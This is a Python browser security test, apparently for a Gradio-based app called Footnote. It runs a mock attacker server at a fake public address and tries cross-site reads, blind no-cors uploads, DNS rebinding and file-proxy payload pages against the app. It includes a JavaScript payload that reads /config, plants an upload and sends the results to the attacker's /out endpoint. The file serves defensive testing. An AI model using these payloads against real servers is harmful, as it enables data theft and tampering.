"""Run in a namespace with no network but a "public" address of its own: a visited web page tries to take the page over.

    unshare --user --map-root-user --net python -m tests.ui.taken_over INDEX CHROMIUM [USER:PASSWORD]

Prints as JSON what the foreign page got out of a `footnote serve`, each by the name of the way it tried.
"""

import fcntl
import json
import socket
import struct
import sys
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import asdict, dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import unquote, urlsplit

from playwright.sync_api import Browser, Error, Page, sync_playwright

from bot.ingest.folders import UPLOADS_MARK
from tests.ui.cut_off import bring_loopback_up, served

FOREIGN = "1.2.3.4"  # somebody's out there; in here nobody's but ours
REBOUND = "rebound.example"  # a name of the attacker's, which leads to this machine
SET_ADDRESS = 0x8916  # SIOCSIFADDR of linux/sockios.h
LIMIT_MS = 120_000
# What runs when HTML of the attacker's is shown under the address of the page: it reads, uploads, and sends away.
PAYLOAD = """<!doctype html><p id="ran">payload</p><script>
(async () => {
  const config = await (await fetch("/config")).text();
  const headers = { "Footnote-Name": "planted.md" };
  const planted = await fetch("/footnote/uploads/file", { method: "POST", body: "# planted", headers });
  location = `OUT?config=${config.length}&planted=${planted.status}`;
})();
</script>"""
# Each way that a visited page has to reach another server: what it can read of it, it sends to its own.
VISITED = """<!doctype html><title>visited</title><body><script>
const target = "TARGET";
const tell = (way, what) => fetch(`/told?way=${encodeURIComponent(way)}&what=${encodeURIComponent(what)}`);
const tries = {
  "read the configuration": async () => (await fetch(`${target}/config`, { credentials: "include" })).status,
  "read an answer": async () => (await fetch(`${target}/gradio_api/call/v2/ask`, { method: "POST",
    body: JSON.stringify({ question: "How many sessions?" }), credentials: "include" })).status,
  "load as a script": () => loaded("script", "src", `${target}/theme.css`),
  "load as a picture": () => loaded("img", "src", `${target}/favicon.ico`),
  "load as a style": () => loaded("link", "href", `${target}/theme.css`),
};
const loaded = (tag, attribute, url) => new Promise((resolve, reject) => {
  const made = document.createElement(tag);
  made.onload = () => resolve("loaded");
  made.onerror = reject;
  if (tag === "link") made.rel = "stylesheet";
  made[attribute] = url;
  document.head.append(made);
});
const blind = {
  "upload": [`${target}/footnote/uploads/file`, "# planted"],
  "record": [`${target}/gradio_api/process_recording`, "x".repeat(1 << 20)],
  "call a component": [`${target}/gradio_api/component_server`, "{}"],
  "build": [`${target}/footnote/uploads/build`, ""],
};
(async () => {
  for (const [way, run] of Object.entries(tries)) await run().then((what) => tell(way, what)).catch(() => {});
  for (const [url, body] of Object.values(blind))
    await fetch(url, { method: "POST", mode: "no-cors", body, credentials: "include" }).catch(() => {});
  await tell("done", "");
  document.title = "done";
})();
</script>"""


@dataclass(slots=True)
class Got:
    """What the foreign server heard, and what the browser showed."""

    fetched: list[str] = field(default_factory=list)  # by Footnote itself
    sent_out: list[str] = field(default_factory=list)  # by scripts under the address of the page
    read: dict[str, str] = field(default_factory=dict)  # by the visited page
    shown: dict[str, str] = field(default_factory=dict)  # the text under each address the browser was led to
    planted: list[str] = field(default_factory=list)  # files in the folder of uploads
    answered: bool = False  # whether the page still answers its own reader


def give_foreign_address() -> None:
    """Add the "public" address to the loopback device of this namespace."""
    request = struct.pack("16sH2s4s8s", b"lo:1", socket.AF_INET, b"\0\0", socket.inet_aton(FOREIGN), b"\0" * 8)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        fcntl.ioctl(any_socket, SET_ADDRESS, request)


@contextmanager
def foreign_server(target: str, got: Got) -> Iterator[str]:
    """A web server at the foreign address: the visited page, the payload, and what is told or sent to it."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            address = urlsplit(self.path)
            if address.path == "/out":
                got.sent_out.append(address.query)
            elif address.path == "/told":
                way, what = (unquote(part.partition("=")[2]) for part in address.query.split("&"))
                got.read[way] = what
            elif address.path == "/payload.html" and "Mozilla" not in self.headers.get("User-Agent", ""):
                got.fetched.append(self.path)
            body = (
                PAYLOAD.replace("OUT", f"{here}/out") if "payload" in self.path else VISITED.replace("TARGET", target)
            )
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *_: object) -> None:
            """Nothing is written."""

    server = ThreadingHTTPServer((FOREIGN, 0), Handler)
    here = f"http://{FOREIGN}:{server.server_address[1]}"
    Thread(target=server.serve_forever, daemon=True).start()
    yield here
    server.shutdown()


def lead_astray(page: Page, url: str, foreign: str, got: Got) -> None:
    """Have the browser led, by links and redirections of the visited page, to addresses under the page's own."""
    payload = f"{foreign}/payload.html"
    for address in (
        f"{url}/gradio_api/file={payload}",
        f"{url}/gradio_api/proxy={payload}",
        f"{url}/gradio_api/file/{payload}",
        url.replace("127.0.0.1", REBOUND) + "/config",
    ):
        page.goto(foreign)
        with suppress(Error), page.expect_navigation(url=address):  # what runs there may lead away at once
            page.evaluate("address => { location = address }", address)
        page.wait_for_load_state()
        got.shown[address.replace(url, "").replace(foreign, "")] = page.locator("body").inner_text()[:200]


def is_answered(page: Page, url: str) -> bool:
    page.goto(url)
    page.get_by_label("Your question").fill("How many sessions will I need?")
    page.get_by_label("Your question").press("Enter")
    page.locator(".fn-level").first.wait_for()
    return True


def visit(browser: Browser, url: str, account: str, got: Got) -> None:
    """A reader with the page open in one tab visits the foreign page in another."""
    user, _, password = account.partition(":")
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(LIMIT_MS)
    if account:
        log_in(page, url, user, password)
    got.answered = is_answered(page, url)
    visited = context.new_page()
    visited.set_default_timeout(LIMIT_MS)
    with foreign_server(url, got) as foreign:
        visited.goto(foreign)
        visited.wait_for_function("document.title === 'done'")
        lead_astray(visited, url, foreign, got)
        got.answered &= is_answered(page, url)


def log_in(page: Page, url: str, user: str, password: str) -> None:
    """Open the page with an account."""
    page.goto(url)
    page.locator('input[name="user"]').fill(user)
    page.locator('input[name="password"]').fill(password)
    page.locator('button[type="submit"]').click()
    page.locator(".fn-conversation").wait_for()


def main(index: str, chromium: str, account: str = "") -> None:
    """Do it and print it."""
    bring_loopback_up()
    give_foreign_address()
    got = Got()
    arguments = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
    rebinding = f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1"
    options = ["--auth", account] if account else []
    with served(index, *options) as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=[*arguments, rebinding])
        visit(browser, url, account, got)
        browser.close()
    folder = Path(index).with_name(f"{Path(index).name}-uploads")
    got.planted = sorted(path.name for path in folder.glob("*") if path.name != UPLOADS_MARK)
    print(json.dumps(asdict(got)))  # noqa: T201  (its result)


if __name__ == "__main__":
    main(*sys.argv[1:])
